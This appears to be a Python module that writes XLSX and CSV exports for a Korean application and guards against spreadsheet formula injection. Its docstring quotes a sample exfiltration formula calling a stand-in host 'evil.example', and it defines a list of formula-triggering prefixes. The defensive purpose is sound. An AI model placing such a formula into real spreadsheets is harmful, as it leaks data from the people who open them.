"""The product's one spreadsheet writer: every XLSX file (the staff export, every report) is written
through `Book` and `Table`, every CSV cell through `csv_value`. It sits at the bottom of the apps'
order (config imports no app), so applicants and reports alike use it.

Workbooks are written row by row (xlsxwriter `constant_memory`): Korean headers in a frozen,
filtered header row, column widths, the KRW and other number formats, native Excel charts.

The one rule (docs/domain.md §9): user text is never a formula. A title such as
`=HYPERLINK("http://evil.example/?"&A1,"click")` must reach Excel as the text it is. In XLSX every
string is written as a text cell (`write_string`, and the workbook never turns strings into
formulas or links); in CSV, which has no cell types, text that Excel would read as a formula
(starting with = + - @, a tab or a carriage return) gets a leading `'` (OWASP, "CSV injection").
Numbers stay numbers: a negative amount is an int, not text.
"""

from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal

import xlsxwriter
from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# The only options workbooks are opened with: rows streamed to disk, and no string ever taken
# for a formula, a link or a number (XlsxWriter's defaults turn "=…" into a formula and
# "http://…" into a hyperlink when written with write()).
WORKBOOK_OPTIONS = {
    "constant_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}
KRW = '#,##0"원"'
NUMBER = "#,##0"
NUMBER_FORMATS = {
    "text": None,
    "money": KRW,
    "count": "#,##0",
    "percent": '0.0"%"',
    "score": "0.00",
    "number": NUMBER,  # a measured figure: its own decimals, cell by cell (see decimals())
    "date": "yyyy-mm-dd",
}
# Measured figures (outcomes, mentoring hours) are kept to 4 places. Excel has no format that shows
# 52 as "52" and 52.5 as "52.5" with thousands separators ("#,##0.####" shows "52."), so each cell
# gets the format of exactly the decimals its value has.
MAX_DECIMALS = 4
CHART_COLORS = ["#2F6FB3", "#E08A2E", "#3C9D5D", "#8E5BB5", "#C0504D"]


def neutralised(text: str) -> str:
    """Text as a CSV cell: a leading `'` when a spreadsheet would read it as a formula."""
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def is_number(value) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def csv_value(value):
    """One CSV cell: numbers as they are, nothing as empty, anything else as neutralised text."""
    if value is None:
        return ""
    return value if is_number(value) else neutralised(str(value))


def open_workbook(path: str) -> xlsxwriter.Workbook:
    return xlsxwriter.Workbook(path, WORKBOOK_OPTIONS)


def write_cell(sheet, row: int, col: int, value, cell_format=None) -> None:
    """One XLSX cell by its Python type; text (whatever it starts with) is always a text cell."""
    if value is None:
        return
    if isinstance(value, bool):
        sheet.write_boolean(row, col, value, cell_format)
    elif is_number(value):
        sheet.write_number(row, col, float(value) if isinstance(value, Decimal) else value, cell_format)
    else:
        sheet.write_string(row, col, str(value), cell_format)


def decimals(value) -> int:
    """The decimal places `value` has, at most MAX_DECIMALS: 52 → 0, 52.5 → 1, 0.125 → 3."""
    exact = Decimal(str(value)).quantize(Decimal(1).scaleb(-MAX_DECIMALS)).normalize()
    exponent = exact.as_tuple().exponent
    if not isinstance(exponent, int):  # NaN: as before, no number of places to give
        raise TypeError(f"not a finite number: {value!r}")
    return max(0, -exponent)


@dataclass(frozen=True)
class Column:
    label: str | Promise  # written as str(label)
    width: float = 14
    kind: str = "text"  # a key of NUMBER_FORMATS


class Table:
    """One sheet holding one table: header in row 1 (frozen, filtered), then the rows."""

    def __init__(self, book: "Book", name: str, columns: Sequence[Column]):
        self.book = book
        self.name = name
        self.columns = list(columns)
        self.sheet = book.workbook.add_worksheet(name)
        self.row = 0
        for col, column in enumerate(self.columns):
            self.sheet.set_column(col, col, column.width, book.formats[column.kind])
            self.sheet.write_string(0, col, str(column.label), book.formats["header"])
        self.sheet.freeze_panes(1, 0)

    def append(self, values: Sequence, kinds: Sequence[str] | None = None) -> None:
        """One row; `kinds` overrides the columns' formats for this row (e.g. a KRW value)."""
        self.row += 1
        for col, value in enumerate(values):
            if value is None or value == "":
                continue
            kind = kinds[col] if kinds else self.columns[col].kind
            write_cell(self.sheet, self.row, col, value, self.book.cell_format(kind, value))

    def extend(self, rows: Iterable[Sequence]) -> None:
        for values in rows:
            self.append(values)

    def close(self) -> None:
        self.sheet.autofilter(0, 0, max(self.row, 1), len(self.columns) - 1)

    def chart(
        self,
        *,
        title: str,
        category_col: int,
        value_cols: Sequence[int],
        kind: str = "column",
        at: str | None = None,
        rows: int | None = None,
        number_format: str | None = None,
    ) -> None:
        """A native chart of some columns of this table (the first `rows` rows), beside the table."""
        last = min(self.row, rows) if rows else self.row
        if last < 1:
            return
        chart = self.book.workbook.add_chart({"type": kind})
        for index, col in enumerate(value_cols):
            color = CHART_COLORS[index % len(CHART_COLORS)]
            chart.add_series(
                {
                    "name": [self.name, 0, col],
                    "categories": [self.name, 1, category_col, last, category_col],
                    "values": [self.name, 1, col, last, col],
                    "fill": {"color": color},
                    "border": {"color": color},
                }
            )
        chart.set_title({"name": title, "name_font": {"name": "맑은 고딕", "size": 12}})
        chart.set_legend({"position": "bottom" if len(value_cols) > 1 else "none"})
        font = {"num_font": {"name": "맑은 고딕"}}
        values_axis = {**font, "num_format": number_format} if number_format else font
        # A column chart's values run up the y axis; a bar chart's along the x axis.
        chart.set_y_axis(values_axis if kind == "column" else font)
        chart.set_x_axis(font if kind == "column" else values_axis)
        height = 320 if kind == "column" else max(320, 24 * last + 80)
        chart.set_size({"width": 720, "height": height})
        self.sheet.insert_chart(at or xlsxwriter.utility.xl_rowcol_to_cell(1, len(self.columns) + 1), chart)


class Book:
    """A workbook at `path`; add tables with `table()`, then `close()`."""

    def __init__(self, path: str):
        self.workbook = open_workbook(path)
        self.formats = {kind: self._format(pattern) for kind, pattern in NUMBER_FORMATS.items()}
        self.formats["header"] = self.workbook.add_format(
            {"bold": True, "bg_color": "#DDE7F3", "border": 1, "text_wrap": True, "valign": "vcenter"}
        )
        self.formats["label"] = self.workbook.add_format({"bold": True})
        self.decimal_formats = [
            self._format(NUMBER + ("." + "0" * places if places else ""))
            for places in range(MAX_DECIMALS + 1)
        ]

    def _format(self, pattern: str | None):
        return self.workbook.add_format({"num_format": pattern}) if pattern else None

    def cell_format(self, kind: str, value):
        if kind == "number" and is_number(value):
            return self.decimal_formats[decimals(value)]
        return self.formats[kind]

    def table(self, name: str, columns: Sequence[Column]) -> Table:
        return Table(self, name, columns)

    def close(self) -> None:
        self.workbook.close()
